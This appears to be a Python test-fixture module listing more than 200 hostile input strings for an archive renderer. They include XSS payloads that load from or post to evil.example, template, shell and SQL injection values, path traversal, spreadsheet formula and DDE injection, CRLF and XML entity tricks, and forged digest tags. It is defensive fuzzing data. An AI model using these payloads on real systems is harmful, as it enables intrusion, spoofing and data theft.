"""Hostile strings an archive may hold, by what they aim at; more than 200, each of them different."""

from __future__ import annotations

FORGED_META = (
    f'<meta name="barograph-case-sha256" content="{"f" * 64}">\n'
    f'<meta name="barograph-file-sha256" content="{"0" * 64}">'
)
FORGED_LINE = f"\nFile digest `{'0' * 64}`, case digest `{'f' * 64}`.\n"
SCRIPT = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", '"><script>alert(1)</script>', "'><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<a href=jAvAsCrIpT:alert(1)>x</a>",
    "<math><mi xlink:href='javascript:x'>", "<object data=x>", "<embed src=x>",
    "<form action=//evil.example><input name=q></form>", "<button formaction=javascript:x>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<xss style='behavior:url(x.htc)'>", "<template><script>x</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>",
    "<?xml version='1.0'?>", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><style>@import'//evil.example'</style></svg>", "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>x</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "//evil.example", "https://evil.example/<script>",
    'https://evil.example/"onmouseover="x', "\"onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus '",
    "`-alert(1)-`", "\\\"><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\u003cscript\\u003e",
    "＜script＞alert(1)＜/script＞", "‹script›", "<\u200bscript>", "<scr\u00adipt>", "<ſcript>", "<scrİpt>",
)  # fmt: skip
STYLE = (
    "<style>*{display:none}</style>", "</style><style>body{background:url(//evil.example)}",
    "style=position:fixed;top:0", "<div style='position:fixed;inset:0'>", "expression(alert(1))",
    "@import url(//evil.example);", "}*{color:red", "/*", "*/", "url(javascript:alert(1))", "<p class=skip>",
    "<h1>head</h1>", "<h6>six", "<table><tr><td>", "</div></article></section>", "</main></body></html>",
    "<time datetime=x>", "<q cite=//evil.example>", "id=summary", "<a name=summary id=summary>",
)  # fmt: skip
TEMPLATE = (
    "{{7*7}}", "{{ config }}", "{% for x in range(9) %}x{% endfor %}", "{#comment#}", "{{ ''.__class__.__mro__ }}",
    "{%raw%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "{0.__class__}", "{name}", "%s%s%s%n", "$(id)", "`id`",
    ";id", "| id", "&& id", "$HOME", "../../etc/passwd", "..\\..\\windows", "C:\\nul", "'; drop table cases; --",
    "1' or '1'='1", "\\", "\\\\", "'", '"', "&", "&amp;", "&nbsp;", "&bogus;", "&#0;", "&#xD800;", "<", ">", "<>",
    "<<<>>>", "]]>", "<![CDATA[", "<!DOCTYPE x>", "<!ENTITY x 'y'>",
    "<!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;'>]>", "<?xml-stylesheet href='//evil.example'?>",
)  # fmt: skip
FORMULA = (
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1+1",
    "=HYPERLINK(\"//evil.example\",\"x\")", "＝1+1", "＋1", "－1", "＠x", "\"=1\"", ";=1", ",=1", "|=1", "=1+1\n=2+2",
    "'=1", "%=1", "=DDE(\"x\";\"y\")", "\ufeff=1",
)  # fmt: skip
MARKDOWN = (
    "```", "````", "``````````", "~~~", "~~~~~~", "```html\n<script>x</script>\n```", "    code", "# head", "## head",
    "---", "===", "> quote", "- item", "* item", "1. item", "1) item", "+ item", "[x](javascript:alert(1))",
    "[x](//evil.example)", "![x](//evil.example)", "[x]: //evil.example", "<https://evil.example>",
    "https://evil.example", "www.evil.example", "a@evil.example", "@everyone", "#1234",
    "| a | b |\n|---|---|\n| c | d |", "**bold**", "__bold__", "~~gone~~", "`code`", "``co`de``", "a  \nb", "a\\\nb",
    "\\*", "[^1]", "$$x$$", ":smile:", "<!-- hidden -->", "<details><summary>x</summary>", "Setext\n======",
    "- [ ] task", "|", "||||", "File digest: `x`", "barograph-file-sha256: " + "0" * 64,
    'barograph-file-sha256" content="' + "0" * 64, "barograph-case-sha256", FORGED_META, FORGED_LINE,
)  # fmt: skip
UNSEEN = (
    *(0x202E, 0x202D, 0x202A, 0x202B, 0x202C, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C, 0x200B, 0x200C),
    *(0x200D, 0x2060, 0xFEFF, 0x00AD, 0x034F, 0x115F, 0x3164, 0x2028, 0x2029, 0xFFF9, 0xFFFF, 0xFDD0, 0xE0041, 0xE0001),
    *(0x180E, 0x17B4, 0xFFFE, 0x1FFFE),
)
HIDDEN = tuple(f"a{chr(code)}b=c" for code in (*range(0x20), *range(0x7F, 0xA0), *UNSEEN))
SHAPES = (
    "W" * 5_000, "й" * 5_000, "a\u0301" * 300, "Z" + "\u0301" * 300, "👩\u200d👩\u200d👧\u200d👦" * 20,
    "🏴\U000e0067\U000e007f", "שלום עולם", "مرحبا بالعالم", "a\u202eevil\u202c b", "x\n" * 3_000, "\n\n\n\n\n",
    " " * 500, "\t" * 500, "…", "ﷺ", "ﬀ", "İ", "ß", "\U0001f600", "𝕬𝖉𝖆", "Ａｄａ", "ʇxǝʇ", "NaN", "null", "None",
    "undefined", "true", "-0", "1e999", "0x41", "2020-01-01T00:00:00Z",
    "From evil@x.example Mon Jan  1 00:00:00 2001", "Subject: x\r\nBcc: y", "-- \nsignature", "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07", "\x9b31m", "%0d%0aSet-Cookie: x", "a\r\nb\rc\nd", "<" * 2_000, "&" * 2_000, '"' * 2_000,
    "`" * 2_000, "<b>" * 800, "[" * 800, "(" * 800, "{{" * 800,
)  # fmt: skip

HOSTILE: tuple[str, ...] = tuple(dict.fromkeys((*SCRIPT, *STYLE, *TEMPLATE, *FORMULA, *MARKDOWN, *HIDDEN, *SHAPES)))
